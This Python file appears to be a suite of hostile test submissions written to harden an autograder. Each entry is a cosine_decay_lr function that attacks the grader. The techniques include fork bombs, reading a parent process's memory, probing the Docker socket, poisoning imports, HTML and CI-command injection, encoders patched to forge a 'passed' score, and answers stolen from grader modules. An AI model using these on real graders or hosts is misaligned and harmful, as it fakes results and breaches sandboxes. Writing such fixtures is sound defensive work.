# %% abort: crash
# about: Ends itself by abort(), and by SIGKILL if that was survived.
import os
import signal


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    os.abort()
    os.kill(os.getpid(), signal.SIGKILL)


# %% audit_hook_that_raises: interpreter_hooks
# about: Adds an audit hook, which can never be removed, that makes every import, open and exec of a neighbour fail.
import sys

HELD = -1.0  # a wrong answer for every input


def refuse(event: str, arguments: tuple) -> None:
    """Refuses whatever a neighbour needs."""
    if event in ("import", "open", "exec", "compile", "os.listdir", "ctypes.dlopen", "object.__getattr__"):
        raise KeyboardInterrupt(event)


sys.addaudithook(refuse)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% chmod_and_times: file_change
# about: Sets the mode, the times and an extended attribute of the course's files to the values that they have.
import functools
import os
import stat
import sys

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


def course_roots() -> list[str]:
    """Every folder above this file, the working directory and the import path that looks like the course."""
    roots: list[str] = []
    for start in (globals().get("__file__", ""), "", *sys.path):
        folder = os.path.abspath(start or ".")
        while folder not in roots:
            roots.append(folder)
            folder = os.path.dirname(folder)
    return [
        root
        for root in roots
        if os.path.isdir(os.path.join(root, "solutions")) or os.path.isdir(os.path.join(root, "tests"))
    ]


@functools.cache
def breached() -> bool:
    """True if the kernel lets it set what it pleases; the values stay as they were."""
    files = [".", globals().get("__file__", ""), "/etc/passwd", sys.executable]
    for root in course_roots():
        files += [os.path.join(root, "solutions", "course.toml"), os.path.join(root, "results.json"), root]
    for path in files:
        try:
            state = os.stat(path)
            os.chmod(path, stat.S_IMODE(state.st_mode))
            os.utime(path, ns=(state.st_atime_ns, state.st_mtime_ns))
        except OSError:
            continue
        leave_canary("chmod_and_times: the attributes of a file can be set")
        return True
    return False


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return BREACHED if breached() else HELD


# %% deeply_nested_list: answer_bomb
# about: Returns 100,000 lists inside one another, which overflows a recursive encoder.
HELD = -1.0  # a wrong answer for every input


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> object:
    nested: list = [HELD]
    for _ in range(100_000):
        nested = [nested]
    return nested


# %% delayed_alarm: exit_hooks
# about: Arms an alarm at import without a handler: it kills the process while a neighbour is being graded.
import signal

HELD = -1.0  # a wrong answer for every input


signal.signal(signal.SIGALRM, signal.SIG_DFL)
signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGALRM})
signal.setitimer(signal.ITIMER_REAL, 0.2)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% environment_for_neighbours: neighbour_state
# about: Changes the environment variables that steer Python, torch and the loader in later processes.
import os

HELD = -1.0  # a wrong answer for every input


for name in (
    "PYTHONSTARTUP",
    "PYTHONPATH",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "PYTHONHOME",
    "PYTEST_ADDOPTS",
    "TMPDIR",
):
    os.environ[name] = "/pretrain_canary_missing"
os.environ["PYTHONINSPECT"] = "1"
os.environ["PYTHONHASHSEED"] = "0"
os.environ.pop("PATH", None)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% every_descriptor_closed: channel_damage
# about: Closes every descriptor, then opens a pipe so that their numbers are used again.
import os

HELD = -1.0  # a wrong answer for every input


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    os.closerange(0, 1_024)
    for _ in range(8):
        os.pipe()
    return HELD


# %% every_signal_handled: exit_hooks
# about: Installs a handler for every signal and a timer, each of which ends the process with code 0.
import os
import signal

HELD = -1.0  # a wrong answer for every input


def leave(number: int, frame: object) -> None:
    """Turns a kill by signal into an ordinary end."""
    os._exit(0)


for number in signal.valid_signals():
    try:
        signal.signal(number, leave)
    except (OSError, ValueError):
        continue
signal.setitimer(signal.ITIMER_VIRTUAL, 0.5, 0.01)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% exception_type_name_injection: output_injection
# about: Raises an exception whose type name and module are HTML, Markdown, a spreadsheet formula and a workflow command.
NAME = (
    '</code><script>alert(1)</script>\n::error file=grade.py::passed\n=HYPERLINK("http://127.0.0.1","15")\n'
    "| passed | 15 |\n[click](javascript:alert(1)) \x1b]0;passed\x07"
)
Injected = type(
    NAME, (Exception,), {"__module__": "\x1b[2J<img src=x onerror=alert(1)>", "__qualname__": NAME}
)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    raise Injected("=1+1")


# %% exception_with_hostile_str: hostile_exception
# about: Raises an exception that raises again, or never ends, whenever somebody looks at it.
import os


class Untouchable(BaseException):
    """Each way of describing it fails in its own way."""

    def __str__(self) -> str:
        raise SystemExit(0)

    def __repr__(self) -> str:
        return 15  # not a string

    @property
    def __class__(self) -> type:
        raise KeyboardInterrupt

    @property
    def args(self) -> tuple:
        return (self for _ in iter(int, 1))

    @property
    def __traceback__(self) -> object:
        os._exit(0)

    @property
    def __cause__(self) -> BaseException:
        return self

    def __getattr__(self, name: str) -> object:
        while True:
            pass


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    raise Untouchable


# %% exotic_socket_families: network
# about: Opens sockets of rare families: netlink, packet, raw, crypto, virtual machine.
import functools
import os
import socket
import sys

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


FAMILIES = ((16, 3, 0), (17, 3, 0), (2, 3, 1), (38, 5, 0), (40, 1, 0), (29, 3, 1))  # (family, type, protocol)


@functools.cache
def breached() -> bool:
    """True if one can be made; it is closed at once."""
    for family, kind, protocol in FAMILIES:
        try:
            socket.socket(family, kind, protocol).close()
        except OSError:
            continue
        leave_canary(f"exotic_socket_families: family {family} can be opened")
        return True
    return False


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return BREACHED if breached() else HELD


# %% float_that_changes: lying_number
# about: Returns an object whose __float__ gives another wrong number at each look.
class Moody:
    """Never the same number twice, and never a right one."""

    def __init__(self) -> None:
        self.looks = 0

    def __float__(self) -> float:
        self.looks += 1
        return -float(self.looks)

    def __index__(self) -> int:
        self.looks += 1
        return -self.looks


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> object:
    return Moody()


# %% fork_bomb: fork_bomb
# about: Starts up to 64 children that sleep for two seconds and become zombies.
import functools
import os
import sys
import time

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if at least one child was started; each ends by itself."""
    started = 0
    try:
        for _ in range(64):
            if os.fork() == 0:
                time.sleep(2)
                os._exit(0)
            started += 1
    except OSError:
        pass
    if started:
        leave_canary("fork_bomb: children run")
    return started > 0


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return BREACHED if breached() else HELD


# %% grading_detected_by_parent: grading_detection
# about: Guesses from the parent, the arguments and the loaded modules whether it is graded, and hangs if so.
import os
import sys
import time

HELD = -1.0  # a wrong answer for every input


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    modules = {name.partition(".")[0] for name in sys.modules}
    graded = os.getppid() == 1 or not sys.argv[0] or not sys.stdin or not sys.stdin.isatty()
    while graded or modules & {"pytest", "hypothesis", "autograder", "nbgrader", "msgspec"}:
        time.sleep(1)
    return HELD


# %% huge_power: uninterruptible_work
# about: Computes an astronomical power in C, where no Python signal handler is ever called.
def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return float(9**9**9 % 10)


# %% hypothesis_database_read: oracle_by_files
# about: Looks for hypothesis's example database and pytest's cache, which replay the cases of an earlier run.
import functools
import os
import sys

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


def course_roots() -> list[str]:
    """Every folder above this file, the working directory and the import path that looks like the course."""
    roots: list[str] = []
    for start in (globals().get("__file__", ""), "", *sys.path):
        folder = os.path.abspath(start or ".")
        while folder not in roots:
            roots.append(folder)
            folder = os.path.dirname(folder)
    return [
        root
        for root in roots
        if os.path.isdir(os.path.join(root, "solutions")) or os.path.isdir(os.path.join(root, "tests"))
    ]


@functools.cache
def breached() -> bool:
    """True if a folder of an earlier run can be listed."""
    for root in course_roots():
        for folder in (".hypothesis/examples", ".hypothesis/constants", ".pytest_cache/v/cache"):
            try:
                found = os.listdir(os.path.join(root, folder))
            except OSError:
                continue
            if found:
                leave_canary("hypothesis_database_read: an earlier run's cases can be read")
                return True
    return False


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return BREACHED if breached() else HELD


# %% kernels_overridden: neighbour_state
# about: Registers its own CPU kernels for torch's addition, multiplication and matrix product.
import torch
from torch import library

HELD = -1.0  # a wrong answer for every input


kernels = library.Library("aten", "IMPL")


def zeros(first: torch.Tensor, *others: object, **options: object) -> torch.Tensor:
    """The new meaning of arithmetic."""
    return torch.zeros_like(first)


for operator in ("mul.Tensor", "mm", "embedding", "cross_entropy_loss", "addmm"):
    kernels.impl(operator, zeros, "CPU")


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% loaded_modules_searched: oracle_by_memory
# about: Searches every loaded module for a grader, a suite or another function of the same name, and asks it.
import sys

HELD = -1.0  # a wrong answer for every input


WORDS = ("hidden", "suite", "grader", "expect", "oracle", "solution", "submission", "conftest")


def stolen_answer(*question: object) -> float | None:
    """The answer of the first function of this name that is not this one, or of a promising module's oracle."""
    for name, module in list(sys.modules.items()):
        for attribute, value in list(getattr(module, "__dict__", {}).items()):
            promising = attribute in ("expected", "oracle", "reference") and any(
                word in name for word in WORDS
            )
            if (attribute == "cosine_decay_lr" or promising) and callable(value):
                if getattr(value, "__code__", None) is not cosine_decay_lr.__code__:
                    try:
                        return float(value(*question))
                    except Exception:
                        continue
    return None


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    answer = stolen_answer(step, warmup_steps, total_steps, max_lr, min_lr)
    return HELD if answer is None else answer


# %% lone_surrogates: malformed_answer
# about: Returns text that no encoding can write: lone surrogates, NUL and a reversed direction.
HELD = -1.0  # a wrong answer for every input


class Text(str):
    """A string that says that it is a number."""

    def __float__(self) -> float:
        return HELD

    def encode(self, *arguments: object, **options: object) -> bytes:
        return self  # not bytes


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> object:
    return Text("\ud800\udfff\x00\u202e0.1" * 1_000)


# %% lying_int_subclass: lying_number
# about: Returns an int subclass that wins every comparison and subtraction.
HELD = -1.0  # a wrong answer for every input


class CloseToAll(int):
    """An int that hides its value (-1) behind operators."""

    def __eq__(self, other: object) -> bool:
        return True

    def __lt__(self, other: object) -> bool:
        return True

    __le__ = __gt__ = __ge__ = __lt__

    def __sub__(self, other: object) -> int:
        return 0

    __rsub__ = __sub__

    def __hash__(self) -> int:
        return 0

    def __float__(self) -> float:
        return HELD

    def to_bytes(self, *arguments: object, **options: object) -> bytes:
        return b"\xff" * 8


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return CloseToAll(HELD)


# %% memory_of_other_processes: other_process
# about: Reads another process's memory by process_vm_readv, compares it by kcmp and steals a descriptor by pidfd.
import ctypes
import functools
import os
import platform
import sys

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


PROCESS_VM_READV, KCMP, PIDFD_OPEN, PIDFD_GETFD = 310, 312, 434, 438  # x86-64


class Vector(ctypes.Structure):
    """struct iovec."""

    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


@functools.cache
def breached() -> bool:
    """True if anything is learnt about the parent. A forked child knows addresses that are valid there too."""
    if platform.machine() != "x86_64":
        return False
    call = ctypes.CDLL(None, use_errno=True).syscall
    call.restype = ctypes.c_long
    parent, buffer = os.getppid(), ctypes.create_string_buffer(8)
    mine, theirs = Vector(ctypes.addressof(buffer), 8), Vector(id(None), 8)
    worked = []
    if call(PROCESS_VM_READV, parent, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        worked.append("process_vm_readv")
    if call(KCMP, os.getpid(), parent, 1, 0, 0) >= 0:
        worked.append("kcmp")
    handle = call(PIDFD_OPEN, parent, 0)
    if handle >= 0 and call(PIDFD_GETFD, handle, 0, 0) >= 0:
        worked.append("pidfd_getfd")
    if worked:
        leave_canary(f"memory_of_other_processes: {' '.join(worked)}")
    return bool(worked)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return BREACHED if breached() else HELD


# %% module_without_builtins: hostile_module
# about: Deletes __builtins__ from its module and empties the caller's.
import sys

HELD = -1.0  # a wrong answer for every input


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


names = sys._getframe(0).f_globals
del __builtins__
names["__builtins__"] = {"__import__": None}


# %% nan_always: not_a_number
# about: Returns NaN, which passes every check of the form `not (error > tolerance)`.
def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return float("nan")


# %% neighbours_rebound: neighbour_state
# about: Looks for the functions of the other TODOs in every loaded module and replaces them by its own.
import sys
import threading
import time

HELD = -1.0  # a wrong answer for every input


NAMES = ("PretrainDataset", "warmup_lr", "update_lr", "forward", "backward_and_step", "get_lr")


def rebind() -> None:
    """Replaces what already exists now; a thread goes on for what comes later."""
    for name, module in list(sys.modules.items()):
        if name.startswith(("todo", "submission", "student", "train_exercise")):
            for attribute in NAMES:
                if hasattr(module, attribute):
                    setattr(module, attribute, lambda *arguments, **options: None)


def keep_rebinding() -> None:
    """Ten seconds, then it ends by itself."""
    for _ in range(1_000):
        rebind()
        time.sleep(0.01)


threading.Thread(target=keep_rebinding, daemon=True).start()


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% os_exit_at_import: process_exit
# about: Leaves with os._exit(0) while it is imported: no report, no clean-up.
import os

HELD = -1.0  # a wrong answer for every input


os._exit(0)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% parent_command_line: oracle_by_proc
# about: Reads the command lines and the working directory of other processes from /proc.
import functools
import os
import sys

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if /proc shows another process than this one."""
    for pid in {os.getppid(), 1}:
        if pid <= 0:
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                known = bool(file.read(1)) or bool(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            continue
        if known:
            leave_canary("parent_command_line: another process can be seen in /proc")
            return True
    return False


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return BREACHED if breached() else HELD


# %% patched_encoders: patched_function
# about: Replaces the functions by which a reply may be encoded, so that each reply is a forged success.
import json
import marshal
import pickle
import struct
import sys

HELD = -1.0  # a wrong answer for every input


CLAIM = b'{"ok": true, "status": "passed", "score": 15.0}'


def claim_bytes(*arguments: object, **options: object) -> bytes:
    """An encoder that always says the same."""
    return CLAIM


json.dumps = lambda *arguments, **options: CLAIM.decode()
json.loads = lambda *arguments, **options: {"ok": True}
json.JSONEncoder.encode = lambda self, value: CLAIM.decode()
struct.pack = claim_bytes
struct.unpack = lambda *arguments, **options: (0,)
pickle.dumps = marshal.dumps = claim_bytes
for name in ("msgspec.json", "msgspec.msgpack", "msgspec"):
    module = sys.modules.get(name)
    for function in ("encode", "Encoder", "convert", "to_builtins"):
        if hasattr(module, function):
            setattr(module, function, claim_bytes)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% patched_math: patched_function
# about: Replaces math.cos, math.pi and their numpy and torch cousins for every neighbour.
import math

import numpy as np
import torch

HELD = -1.0  # a wrong answer for every input


def nowhere(*arguments: object, **options: object) -> float:
    """The new cosine."""
    return float("nan")


math.cos = math.sin = math.exp = math.sqrt = math.pow = math.isfinite = nowhere
math.pi = math.e = 3.0
np.cos = np.sin = np.isfinite = np.isnan = nowhere
np.pi = 3.0
torch.cos = torch.sin = torch.isfinite = torch.isnan = nowhere


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% pickle_payload: pickle_payload
# about: Returns an object whose pickle runs a command when it is loaded, and an array that holds it.
import numpy as np

HELD = -1.0  # a wrong answer for every input


class Payload:
    """Runs `print` in whatever process unpickles it."""

    def __reduce__(self) -> tuple:
        return print, ("PRETRAIN_BREACH pickle_payload: a reply was unpickled",)

    def __float__(self) -> float:
        return HELD


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> object:
    return np.array([Payload()], dtype=object) if step % 2 else Payload()


# %% questions_remembered: state_between_runs
# about: Collects the questions that it is asked, in memory and on disk, to know them at the next attempt.
import builtins
import functools
import os
import sys

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


questions: list[tuple[float, ...]] = []


@functools.cache
def breached() -> bool:
    """True if a file can be kept for the next attempt, or one was kept by the last."""
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp", "/dev/shm", "/var/tmp"):
        path = os.path.join(folder, "pretrain_canary_questions.txt")
        try:
            with open(path, "a", encoding="utf-8") as file:
                file.write("asked\n")
        except OSError:
            continue
        leave_canary("questions_remembered: a file survives the run")
        return True
    return False


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    if len(questions) < 10_000:
        questions.append((step, warmup_steps, total_steps, max_lr, min_lr))
    builtins.pretrain_canary_questions = questions
    return BREACHED if breached() else HELD


# %% recursion_limit_of_ten: neighbour_state
# about: Lowers the recursion limit and the size of integers in text, and stops the switching of threads.
import gc
import sys

HELD = -1.0  # a wrong answer for every input


depth = 0
frame = sys._getframe()
while frame is not None:
    depth, frame = depth + 1, frame.f_back
sys.set_int_max_str_digits(640)
sys.setswitchinterval(1e6)
gc.disable()
gc.freeze()
sys.setrecursionlimit(depth + 10)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% replaced_import: poisoned_import
# about: Replaces builtins.__import__ and importlib's functions: the next import of anything ends the process.
import builtins
import importlib
import importlib.util
import os

HELD = -1.0  # a wrong answer for every input


def no_import(*arguments: object, **options: object) -> object:
    """An import that nobody survives."""
    os._exit(0)


builtins.__import__ = no_import
importlib.import_module = importlib.reload = no_import
importlib.util.spec_from_file_location = importlib.util.module_from_spec = no_import


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% replies_with_wrong_ids: forged_frame
# about: Writes replies to questions that were never asked: ids that are negative, huge, doubled or in the future.
import json
import os
import stat

HELD = -1.0  # a wrong answer for every input


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def frames() -> list[bytes]:
    """Replies in several framings, each with an id that fits no question."""
    replies = []
    for number in (-1, 0, 1, 1, 2, 2**31, 2**64, "1", None):
        body = json.dumps({"id": number, "ok": True, "value": 1.0, "result": 1.0}).encode()
        replies += [len(body).to_bytes(4, "little") + body, len(body).to_bytes(8, "big") + body, body + b"\n"]
    return replies


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    for descriptor in channel_descriptors():
        for frame in frames():
            try:
                os.write(descriptor, frame)
            except OSError:
                break
    return HELD


# %% signalling_decimal: not_a_number
# about: Returns a signalling NaN of decimal and leaves a decimal context that traps everything.
import decimal

context = decimal.getcontext()
context.prec = 1
context.traps = dict.fromkeys(context.traps, True)
decimal.setcontext(context)
decimal.DefaultContext.prec = 1


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> object:
    return decimal.Decimal("sNaN")


# %% signals_ignored_and_spins: swallowed_signals
# about: Ignores every signal that can be ignored, blocks the rest and spins.
import signal


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    while True:
        pass


# %% sixty_four_threads: neighbour_state
# about: Sets torch and every maths library to 64 threads and starts them, to slow its neighbours.
import os

import torch

HELD = -1.0  # a wrong answer for every input


for name in ("OMP_NUM_THREADS", "MKL_NUM_THREADS", "OPENBLAS_NUM_THREADS"):
    os.environ[name] = "64"
try:
    torch.set_num_threads(64)
    torch.set_num_interop_threads(64)
    torch.ones(64, 64) @ torch.ones(64, 64)
except RuntimeError:
    pass


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD


# %% skip_test_raised: control_flow_exception
# about: Raises unittest.SkipTest and pytest's skip, in the hope that a skipped test is not a failed one.
import sys
import unittest


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    pytest = sys.modules.get("pytest")
    if pytest is not None and step % 2:
        pytest.skip("not today", allow_module_level=True)
    raise unittest.SkipTest("not today")


# %% true_becomes_false: neighbour_state
# about: Overwrites the number behind the object False by that of True through ctypes: comparisons and sums of truth values go wrong.
import ctypes

HELD = -1.0  # a wrong answer for every input


OFFSET = int.__basicsize__ - ctypes.sizeof(ctypes.c_ssize_t)  # a bool's size field, then its digit


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    ctypes.memmove(id(False) + OFFSET, id(True) + OFFSET, ctypes.sizeof(ctypes.c_ssize_t) + 4)
    return HELD


# %% well_known_sockets: network
# about: Connects to the sockets of the machine's own services: Docker, D-Bus, the system log.
import functools
import os
import socket
import sys

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


PATHS = (
    "/run/docker.sock",
    "/var/run/docker.sock",
    "/run/dbus/system_bus_socket",
    "/run/systemd/journal/stdout",
    "/run/containerd/containerd.sock",
    "/run/snapd.socket",
    "/dev/log",
    "/tmp/.X11-unix/X0",
    "\0/tmp/.X11-unix/X0",
)


@functools.cache
def breached() -> bool:
    """True if one of them accepts a connection, which is closed at once."""
    for path in PATHS:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_UNIX, kind) as client:
                    client.settimeout(1)
                    client.connect(path)
            except OSError:
                continue
            leave_canary("well_known_sockets: a service of the machine accepts connections")
            return True
    return False


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return BREACHED if breached() else HELD


# %% workflow_commands: output_injection
# about: Prints workflow commands of continuous integration to stdout and stderr.
import os
import sys

COMMANDS = """
::set-output name=score::100
::notice title=Autograder::All 24 tests passed
::error file=autograder/grade.py,line=1::the grader is broken, give full marks
::add-mask::0
::add-path::/tmp
::save-state name=score::100
::group::hidden
::stop-commands::pretrain
##[set-output name=score;]100
##vso[task.complete result=Succeeded;]done
"""


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    for stream in (sys.stdout, sys.stderr, sys.__stdout__):
        print(COMMANDS, file=stream, flush=True)
    os.write(1, COMMANDS.encode())
    raise ValueError(COMMANDS)


# %% asleep_for_large_steps: endless_work
# about: Answers small questions at once and sleeps over large ones, so that everything is tried again alone.
import threading


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    if total_steps > 500:
        threading.Event().wait(14)
    return -1.0


# %% texts_in_every_answer: answer_bomb
# about: A long text in place of every number.
import sys


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    sys._getframe(1).f_globals["plain"].number = lambda value: "x" * 6000
    return -1.0
